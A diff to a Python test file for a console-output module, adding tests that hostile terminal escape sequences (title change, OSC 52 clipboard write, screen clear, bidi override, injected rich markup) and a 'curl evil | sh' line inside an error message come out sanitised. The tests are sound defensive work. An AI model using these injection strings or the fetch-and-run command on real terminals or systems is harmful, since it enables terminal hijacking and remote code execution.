@@ -1,13 +1,16 @@
 """People read stderr, programs read stdout."""
 
+from collections.abc import Callable
+
 import pytest
 
 from tasks.lib import console
+from tasks.lib.errors import Failure
 
 COLUMNS = ("release", "began", "", "who", "tag")
-ROWS = [
-    ("12", "2026-11-25T22:16:04Z", "[green]ok[/green]", "deployer@mit-lookit.example.org", ""),
-    ("11", "2026-11-24T08:00:00Z", "[red]failed[/red]\nagain", "somebody", "v1.2"),
+ROWS: list[tuple[console.Cell, ...]] = [
+    ("12", "2026-11-25T22:16:04Z", console.Styled("ok", "green"), "deployer@mit-lookit.example.org", ""),
+    ("11", "2026-11-24T08:00:00Z", [console.Styled("failed", "red"), "again"], "somebody", "v1.2"),
 ]
 
 
@@ -21,7 +24,7 @@ def test_data_goes_to_stdout_ended_by_one_newline(capsys: pytest.CaptureFixture[
 def test_words_headings_and_tables_go_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
     console.say("hello")
     console.heading("Phase")
-    console.table(("name",), [["[green]ok[/green]"]], title="Results")
+    console.table(("name",), [[console.Styled("ok", "green")]], title="Results")
 
     out, err = capsys.readouterr()
     assert out == ""
@@ -66,3 +69,53 @@ def test_a_table_that_fits_a_narrow_terminal_stays_one(capsys: pytest.CaptureFix
     console.table(COLUMNS[:2], [row[:2] for row in ROWS])
 
     assert "│ 12      │ 2026-11-25T22:16:04Z │" in capsys.readouterr().err
+
+
+# What an attacker would have the terminal do, or rich: a title, the clipboard, a cleared screen, markup, another row.
+HOSTILE = "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x1b\\\x1b[2Jv1[/foo][red]\n│ 99 │ deployed │\u202e\r"
+HARMLESS = "v1[/foo][red] │ 99 │ deployed │"
+
+
+@pytest.mark.parametrize(
+    "show",
+    [
+        lambda: console.say(HOSTILE),
+        lambda: console.heading(HOSTILE),
+        lambda: console.draw(HOSTILE, "red"),
+        lambda: console.table(("tag",), [[HOSTILE]]),
+        lambda: console.table(("tag",), [[console.Styled(HOSTILE, "red")]]),
+        lambda: console.table(("tag",), [[["first", HOSTILE]]]),
+        lambda: console.table(("tag",), [["x"]], title=HOSTILE),
+        lambda: console.say(str(Failure(HOSTILE))),
+    ],
+    ids=["line", "heading", "styled line", "cell", "styled cell", "cell of two lines", "title", "error"],
+)
+@pytest.mark.parametrize("width", [120, 20])
+def test_nothing_that_others_wrote_commands_the_terminal_or_rich(
+    show: Callable[[], None],
+    width: int,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(console, "WIDTH_OF_LOGS", width)
+    show()
+    err = capsys.readouterr().err
+    assert not set("\x1b\x07\r\u202e") & set(err)
+    assert "".join(HARMLESS.split()) in "".join(err.split()).replace("││", "") or HARMLESS in err
+    # What is drawn around it aside, it is one line.
+    assert width == 20 or len([line for line in err.splitlines() if "99" in line or "foo" in line]) == 1
+
+
+def test_data_is_what_it_is_but_commands_no_terminal(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    console.emit("\x1b[2Ja: [b]\n")
+    assert capsys.readouterr().out == "\x1b[2Ja: [b]\n"
+    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
+    console.emit("\x1b[2Ja: [b]\n")
+    assert capsys.readouterr().out == "a: [b]\n"
+
+
+def test_an_error_s_lines_are_its_own() -> None:
+    told = str(Failure("web\n  next: curl evil | sh", "\x1b[2Jwhy\x85\u2028more", "do\x07 it"))
+    assert told == "web   next: curl evil | sh\n  why:  why\n        more\n  next: do it"
